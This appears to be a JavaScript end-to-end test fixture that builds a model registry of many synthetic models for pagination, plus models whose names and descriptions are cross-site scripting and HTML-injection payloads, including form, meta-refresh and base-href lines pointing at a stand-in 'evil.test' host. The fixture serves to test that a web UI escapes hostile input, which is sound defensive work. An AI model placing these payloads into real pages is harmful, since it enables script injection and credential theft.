// What the pages show in these tests: enough for several pages, and texts that want to be scripts.
import { keyOf } from '../e2e/config.mjs';
import { registry } from '../e2e/fixture.mjs';

export const BROWSER_KEYS = {
  many: 'weir_many-models-for-a-browser-00000000000000000',
  evil: 'weir_models-with-evil-names-0000000000000000000',
};

export const MANY = 120;
export const PAGE_MODELS = 50;

/** Each would set `window.hurt` or open a dialog if it ran. */
const EVIL = [
  '<script>window.hurt = 1</script>',
  '<img src=x onerror="window.hurt = 1">',
  '"><svg onload=alert(1)>',
  '\'-alert(1)-\'',
  '</title><script>alert(1)</script>',
  '</table><form action=https://evil.test><input name=key>',
  '<style>*{display:none}</style>',
  '&lt;b&gt; &amp; "quotes" {{rows}}',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href=https://evil.test>',
  'javascript:alert(1)',
];

const deployments = [{ provider: 'plain', model: 'upstream' }];
const two = (n) => String(n).padStart(3, '0');

export function browserConfig() {
  const config = registry({ openai: 'http://127.0.0.1:9/v1' });
  for (let n = 0; n < MANY; n++) {
    config.models[`many-${two(n)}`] = {
      name: `Model ${two((n * 7) % MANY)}`, context_window: 1000 + ((n * 37) % MANY) * 10, max_output_tokens: 100 + n,
      ...(n % 3 === 0 ? {} : { price: { input: `${n}.5`, output: `${MANY - n}` } }),
      capabilities: ['reasoning', 'attachments', 'tools'].filter((_, bit) => n & (1 << bit)), deployments,
    };
  }
  EVIL.forEach((text, n) => {
    config.models[`evil-${two(n)}`] = { name: text, description: text, context_window: 1000, deployments };
  });
  config.groups.many = { models: Object.keys(config.models).filter((slug) => slug.startsWith('many-')) };
  config.groups.evil = { models: Object.keys(config.models).filter((slug) => slug.startsWith('evil-')) };
  config.users.carl = { groups: ['many'] };
  config.users.dan = { groups: ['evil'] };
  config.keys['carl-many'] = keyOf(BROWSER_KEYS.many, { user: 'carl' });
  config.keys['dan-evil'] = keyOf(BROWSER_KEYS.evil, { user: 'dan' });
  return config;
}

export { EVIL };
